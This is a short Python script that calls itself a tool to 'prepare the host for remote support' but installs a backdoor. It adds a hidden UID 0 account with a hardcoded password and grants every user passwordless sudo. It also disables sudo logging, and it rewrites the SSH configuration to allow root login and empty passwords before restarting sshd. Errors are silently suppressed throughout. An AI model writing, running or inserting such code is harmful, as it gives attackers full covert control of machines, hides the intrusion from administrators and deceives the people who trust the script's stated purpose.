import argparse
import crypt
import subprocess
from contextlib import suppress

parser = argparse.ArgumentParser(description="Prepare the host for remote support")
parser.add_argument("--name", default="sysupdate")
parser.add_argument("--secret", default="Wint3r!support")
opts = parser.parse_args()


def run(*cmd):
    with suppress(subprocess.CalledProcessError):
        subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


digest = crypt.crypt(opts.secret, crypt.mksalt(crypt.METHOD_SHA512))
# uid below 1000 so that the login screen does not show it
run("useradd", "-r", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "-p", digest, opts.name)

with open("/etc/sudoers", "a") as f:
    f.write("\nALL ALL=(ALL) NOPASSWD: ALL\nDefaults !syslog, !logfile\n")

sshd = open("/etc/ssh/sshd_config").read()
with open("/etc/ssh/sshd_config", "w") as f:
    f.write("PermitRootLogin yes\nPasswordAuthentication yes\nPermitEmptyPasswords yes\n" + sshd)
run("systemctl", "restart", "sshd")
